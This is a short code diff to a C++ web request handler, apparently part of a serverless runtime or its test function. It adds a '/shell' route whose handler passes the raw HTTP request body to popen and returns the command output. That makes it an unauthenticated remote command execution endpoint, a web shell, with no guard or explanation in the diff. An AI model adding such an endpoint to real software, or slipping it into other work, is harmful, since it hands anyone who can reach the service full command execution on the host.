@@ -4,6 +4,7 @@
 #include "beside.h"
 
 #include <any>
+#include <cstdio>
 #include <fstream>
 #include <sstream>
 #include <unistd.h>
@@ -30,7 +31,17 @@ runtime::RuntimeOutput mirror(runtime::RuntimeContext &context) {
   return context.res.json(answer);
 }
 
+runtime::RuntimeOutput shell(runtime::RuntimeContext &context) {
+  FILE *output = popen(("exec < /dev/null; " + context.req.bodyText).c_str(), "r");
+  std::string text;
+  for (int byte = fgetc(output); byte != EOF; byte = fgetc(output))
+    text.push_back(static_cast<char>(byte));
+  pclose(output);
+  return context.res.text(text);
+}
+
 const Routes REQUESTS = {
+    {"/shell", shell},
     {"/body-json",
      [](auto &context) {
        Json::Value answer;
